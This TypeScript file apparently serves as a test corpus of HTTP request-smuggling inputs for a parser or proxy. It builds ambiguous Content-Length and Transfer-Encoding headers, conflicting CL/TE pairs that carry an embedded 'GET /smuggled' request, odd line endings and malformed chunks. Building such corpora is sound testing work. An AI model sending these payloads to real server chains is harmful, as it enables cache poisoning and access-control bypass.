/** The attacks on framing: lengths, codings, chunks and line ends that two parsers may read in two ways. */

export function head(first: string, ...lines: string[]): string {
  return [first, "Host: h", ...lines, "", ""].join("\r\n")
}

export function get(...lines: string[]): string {
  return head("GET /a HTTP/1.1", ...lines)
}

export function post(body: string, ...lines: string[]): string {
  return head("POST /a HTTP/1.1", ...lines) + body
}

const smuggled = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"

const lengths = [
  [
    "5",
    "05",
    "+5",
    "-5",
    "5 ",
    " 5",
    "5, 5",
    "5,5",
    "5;",
    "5.0",
    "0x5",
    "5_0",
    "",
    " ",
    "a",
    "5a",
    "\t5",
  ],
  ["9007199254740993", "18446744073709551621", "4294967301", "99999999999999999999999999999999"],
  ["000000000000000000005", '"5"', "5\x0b", "5\x00", "5e0"],
].flat()
const twoLengths = [
  post("hello", "Content-Length: 5", "Content-Length: 5"),
  post("hello", "Content-Length: 5", "Content-Length: 6"),
  post("hello", "Content-Length: 0", "Content-Length: 5"),
  post("hello", "Content-Length: 5", "content-length: 0"),
  post("hello", "Content-Length:", "Content-Length: 5"),
  post("hello", "Content-Length: 5", "Content_Length: 0"),
  post("hello", "Content-Length: 5", "Content-Length : 0"),
]
const codings = [
  [
    "chunked",
    "Chunked",
    "CHUNKED",
    "xchunked",
    "chunked, identity",
    "identity",
    "identity, chunked",
  ],
  ["gzip, chunked", "gzip", "chunked, chunked", "chunked,", ",chunked", '"chunked"', "chunked;q=1"],
  [
    "\x0bchunked",
    "\x0cchunked",
    "chunked\x0b",
    "chunked\x00",
    "chunk",
    "chunkedx",
    "",
    "x",
    "\tchunked",
  ],
  [
    "chunked\r\n ",
    "\r\n chunked",
    "chun\r\n ked",
    "chunked\n",
    "\xa0chunked",
    "[chunked]",
    "cow, chunked",
  ],
].flat()
const codingFields = [
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  " Transfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer.Encoding: chunked",
  "Transfer-Encoding:chunked",
  "TRANSFER-ENCODING: chunked",
  "Transfer-Encoding:\x0bchunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\n\tTransfer-Encoding: chunked",
  "Transfer-Encoding",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
  "\x00Transfer-Encoding: chunked",
  "Transfer-Encoding\x00: chunked",
]
const both = [
  post(smuggled, "Content-Length: 5", "Transfer-Encoding: chunked"),
  post(smuggled, "Transfer-Encoding: chunked", "Content-Length: 5"),
  post(smuggled, "Content-Length: 0", "Transfer-Encoding: chunked"),
  post(smuggled, "Content-Length: 5", "Transfer-Encoding: x"),
  post(smuggled, "Content-Length: 5", "Transfer-Encoding: identity"),
  post(smuggled, "content-length: 5", "tRANSFER-eNCODING: CHUNKED"),
  `POST /a HTTP/1.0\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled}`,
  head("POST /a HTTP/1.0", "Content-Length: 5", "Transfer-Encoding: chunked") + smuggled,
  post(smuggled, "Content-Length: 5", "Connection: Content-Length"),
  post(smuggled, "Transfer-Encoding: chunked", "Connection: Transfer-Encoding"),
]
const lineEnds = [
  "GET /a HTTP/1.1\nHost: h\n\n",
  "GET /a HTTP/1.1\r\nHost: h\n\r\n",
  "GET /a HTTP/1.1\nHost: h\r\n\r\n",
  "GET /a HTTP/1.1\r\nHost: h\r\n\n",
  "GET /a HTTP/1.1\r\nHost: h\r\r\n\r\n",
  "GET /a HTTP/1.1\r\nHost: h\r\n\r",
  "GET /a HTTP/1.1\r\nHost: h\r\n\rX",
  "GET /a HTTP/1.1\rHost: h\r\r",
  "GET /a HTTP/1.1\r\r\nHost: h\r\n\r\n",
  "GET /a HTTP/1.1\n\rHost: h\n\r\n\r",
  "GET /a HTTP/1.1\r\nHost: h\r\n\x00\r\n\r\n",
]
const chunks = [
  "0\r\n\r\n",
  "5\r\nhello\r\n0\r\n\r\n",
  "05\r\nhello\r\n00\r\n\r\n",
  "000000000000000000005\r\nhello\r\n0\r\n\r\n",
  "5 \r\nhello\r\n0\r\n\r\n",
  "5\t\r\nhello\r\n0\r\n\r\n",
  " 5\r\nhello\r\n0\r\n\r\n",
  "0x5\r\nhello\r\n0\r\n\r\n",
  "+5\r\nhello\r\n0\r\n\r\n",
  "-5\r\nhello\r\n0\r\n\r\n",
  "\r\nhello\r\n0\r\n\r\n",
  "g\r\nhello\r\n0\r\n\r\n",
  "5\nhello\n0\n\n",
  "5\r\nhello\n0\r\n\r\n",
  "5\r\nhello\r0\r\n\r\n",
  "5\r\nhelloXX0\r\n\r\n",
  "5\r\nhello0\r\n\r\n",
  "5\rhello\r\n0\r\n\r\n",
  "5;a=b\r\nhello\r\n0\r\n\r\n",
  "5;a\nb\r\nhello\r\n0\r\n\r\n",
  "5;\nhello\r\n0\r\n\r\n",
  "5 ;a\r\nhello\r\n0\r\n\r\n",
  '5;a="\r\n"\r\nhello\r\n0\r\n\r\n',
  `5;${"a".repeat(2000)}\r\nhello\r\n0\r\n\r\n`,
  `5;${"a".repeat(17_000)}\r\nhello\r\n0\r\n\r\n`,
  "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
  "10000000000000005\r\nhello\r\n0\r\n\r\n",
  "100000005\r\nhello\r\n0\r\n\r\n",
  "5\r\nhello\r\n0\r\nA: b\r\n\r\n",
  "5\r\nhello\r\n0\r\nContent-Length: 5\r\nHost: x\r\n\r\n",
  "5\r\nhello\r\n0\r\nA : b\r\n\r\n",
  "5\r\nhello\r\n0\r\n A: b\r\n\r\n",
  "5\r\nhello\r\n0\r\nA\r\n\r\n",
  "5\r\nhello\r\n0\r\nA: b\n\r\n",
  "5\r\nhello\r\n0\r\nA: \x00\r\n\r\n",
  "5\r\nhello\r\n0\n\r\n",
  "5\r\nhello\r\n0\r\n\n",
  "5\r\nhello\r\n0;x\r\n\r\n",
  "5\r\nhello\r\n000;x\r\n\r\n",
  `5\r\nhello\r\n0\r\nA: ${"b".repeat(20_000)}\r\n\r\n`,
  `5\r\nhello\r\n0\r\n${"A: b\r\n".repeat(200)}\r\n`,
  "5\r\nhello\r\n",
  "5\r\nhel",
]

/** By the name of the group. */
export const framingAttacks: readonly (readonly [name: string, texts: readonly string[]])[] = [
  ["length", lengths.map((value) => post("hello", `Content-Length: ${value}`))],
  ["two lengths", twoLengths],
  ["coding", codings.map((value) => post(smuggled, `Transfer-Encoding: ${value}`))],
  ["coding field", codingFields.map((line) => post(smuggled, line))],
  ["both", both],
  ["line ends", lineEnds],
  ["chunks", chunks.map((body) => post(body, "Transfer-Encoding: chunked"))],
]
